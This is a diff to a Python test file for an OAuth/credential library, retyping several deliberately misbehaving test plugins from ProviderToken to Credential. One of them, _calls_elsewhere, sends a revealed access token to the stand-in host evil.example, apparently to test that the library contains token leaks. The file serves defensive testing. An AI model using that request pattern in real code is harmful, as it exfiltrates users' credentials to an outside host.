@@ -16,6 +16,7 @@ from core.tests.acme import ADA, Acme, acme_that, answer
 from core.tests.bench import EVERYTHING, GOOD, Bench, bench, good_request
 
 from accredit import AccreditError, ExtraClaims, Login, ProviderToken, VerifyContext, hookimpl
+from accredit.credentials import AccessToken, Credential
 from accredit.errors import PluginFailed
 from accredit.oauth.wire.parse import parse
 from accredit.storage import SqliteStorage
@@ -34,22 +35,23 @@ SENT: dict[str, Any] = {
 SETTINGS = {"connections": {"acme": {"app_secret": APP_SECRET}}}
 
 
-async def _quotes(token: ProviderToken, _: VerifyContext) -> None:
-    raise ValueError(f"{token.reveal()} {token.secret and token.secret.get_secret_value()}")
+async def _quotes(token: Credential, _: VerifyContext) -> None:
+    secret = token.secret if isinstance(token, AccessToken) else None
+    raise ValueError(f"{token.reveal()} {secret and secret.get_secret_value()}")
 
 
-async def _quotes_in_a_chain(token: ProviderToken, _: VerifyContext) -> None:
+async def _quotes_in_a_chain(token: Credential, _: VerifyContext) -> None:
     try:
         raise KeyError(token.reveal())
     except KeyError as exc:
         raise PluginFailed("while asking") from exc
 
 
-async def _calls_elsewhere(token: ProviderToken, ctx: VerifyContext) -> None:
+async def _calls_elsewhere(token: Credential, ctx: VerifyContext) -> None:
     await ctx.http.get(f"https://evil.example/{token.reveal()}", params={"access_token": token.reveal()})
 
 
-async def _hangs(_: ProviderToken, __: VerifyContext) -> None:
+async def _hangs(_: Credential, __: VerifyContext) -> None:
     await asyncio.Event().wait()
 
 
